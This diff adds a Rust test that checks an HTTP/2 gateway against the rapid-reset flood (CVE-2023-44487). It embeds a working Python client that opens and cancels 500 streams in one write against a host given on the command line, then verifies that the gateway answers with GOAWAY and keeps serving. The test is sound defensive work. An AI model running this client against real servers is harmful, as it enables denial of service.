@@ -256,3 +256,70 @@ fn a_stopping_gateway_sends_goaway() {
     let frames = log.lines().find(|l| l.starts_with("frames")).unwrap();
     assert!(frames.starts_with("frames 4") && frames.ends_with(" 7"), "{frames}");
 }
+
+/// A rapid-reset client (CVE-2023-44487): 500 streams opened and reset at once, in one write.
+const RAPID_RESET_CLIENT: &str = r#"
+import socket, sys
+s = socket.create_connection((sys.argv[1], 80))
+frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
+block = b"\x82\x86\x84\x41\x0bfoo.bar.com"  # GET, http, /, :authority foo.bar.com
+for i in range(500):
+    sid = (2 * i + 1).to_bytes(4, "big")
+    frames += len(block).to_bytes(3, "big") + b"\x01\x04" + sid + block  # HEADERS, END_HEADERS
+    frames += b"\x00\x00\x04\x03\x00" + sid + b"\x00\x00\x00\x08"  # RST_STREAM CANCEL
+s.sendall(frames)
+s.settimeout(10)
+data = b""
+try:
+    while True:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        data += chunk
+except OSError:
+    pass
+codes = []
+while len(data) >= 9:
+    n = int.from_bytes(data[:3], "big")
+    if data[3] == 7:
+        codes.append(int.from_bytes(data[13:17], "big"))
+    data = data[9 + n:]
+print("goaway", *codes, flush=True)
+"#;
+
+#[test]
+fn a_rapid_reset_flood_ends_the_connection_and_is_counted() {
+    let dir = tempfile::tempdir().unwrap();
+    let Some(mut sb) = up("a_rapid_reset_flood_ends_the_connection_and_is_counted", dir.path(), &[], |_| {})
+    else {
+        return;
+    };
+    let script = sb.dir().join("rapid_reset.py");
+    std::fs::write(&script, RAPID_RESET_CLIENT).unwrap();
+    sb.spawn("cl", "rapid-reset", &["/usr/bin/python3", script.to_str().unwrap(), L7]).expect("client");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !sb.log("rapid-reset").contains("goaway") {
+        assert!(Instant::now() < deadline, "{}", sb.log("rapid-reset"));
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    // GOAWAY ENHANCE_YOUR_CALM (0xb), and the gateway's counter.
+    let log = sb.log("rapid-reset");
+    assert!(log.contains("goaway 11"), "{log}");
+    assert_eq!(sb.wait_counter("l7_h2_rapid_resets", 1), 1, "{}", sb.metrics());
+    assert!(sb.gateway_counter("l7_h2_peer_resets") >= 200, "{}", sb.metrics());
+    // The gateway serves on.
+    let out = client(
+        &sb,
+        &[
+            "curl",
+            "-s",
+            "--http2-prior-knowledge",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+            &format!("http://{L7}/"),
+        ],
+    );
+    assert_eq!(out, "404");
+}
